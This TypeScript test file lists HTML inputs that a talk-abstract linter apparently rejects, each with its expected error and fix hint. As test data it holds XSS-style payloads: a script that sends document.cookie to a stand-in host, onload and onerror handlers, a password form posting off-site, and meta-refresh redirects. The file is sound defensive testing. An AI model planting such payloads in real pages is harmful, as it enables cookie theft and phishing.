import { type RefusedCase, TALK, withAbstract } from '../case.ts';

/** HTML that would run code or change pages. */
export const html: readonly RefusedCase[] = [
  {
    what: 'a script',
    files: withAbstract('<script>fetch("https://example.org/?" + document.cookie)</script>\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'An abstract cannot run code in the page: `<script>` is not allowed.',
        'Remove it, with everything up to `</script>`.',
      ],
    ],
  },
  {
    what: 'a script in a quote',
    files: withAbstract('> <script src="https://example.org/a.js"></script>\n'),
    problems: [
      [
        `${TALK}:7:3 raw-html`,
        'An abstract cannot run code in the page: `<script>` is not allowed.',
        'Remove it, with everything up to `</script>`.',
      ],
    ],
  },
  {
    what: 'a style that hides the page',
    files: withAbstract('<style>\n* { display: none }\n</style>\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'An abstract cannot change how pages look: `<style>` is not allowed.',
        'Remove it, with everything up to `</style>`.',
      ],
    ],
  },
  {
    what: 'a picture that runs code',
    files: withAbstract('<svg onload="alert(1)"><circle r="1" /></svg>\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<svg>` is not allowed in an abstract.',
        'Write it in Markdown, without tags.',
      ],
    ],
  },
  {
    what: 'an image that runs code',
    files: withAbstract('<img src="x" onerror="alert(1)">\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<img>` is not allowed in an abstract.',
        'Say it in words, or link to the picture: [the diagram](https://…).',
      ],
    ],
  },
  {
    what: 'a form',
    files: withAbstract('<form action="https://example.org/"><input name="password"><button>Send</button></form>\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<form>` is not allowed in an abstract.',
        'Write it in Markdown, without tags.',
      ],
    ],
  },
  {
    what: 'a page in a frame',
    files: withAbstract('<iframe src="https://example.org/"></iframe>\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<iframe>` is not allowed in an abstract.',
        'Write it in Markdown, without tags.',
      ],
    ],
  },
  {
    what: 'a page in an object',
    files: withAbstract('<object data="https://example.org/a.swf"><embed src="a.swf"></object>\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<object>` is not allowed in an abstract.',
        'Write it in Markdown, without tags.',
      ],
    ],
  },
  {
    what: 'another base',
    files: withAbstract('<base href="https://example.org/">\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<base>` is not allowed in an abstract.',
        'Write it in Markdown, without tags.',
      ],
    ],
  },
  {
    what: 'another page after a moment',
    files: withAbstract('<meta http-equiv="refresh" content="0; url=https://example.org/">\n'),
    problems: [
      [
        `${TALK}:7:1 raw-html`,
        'HTML such as `<meta>` is not allowed in an abstract.',
        'Write it in Markdown, without tags.',
      ],
    ],
  },
];
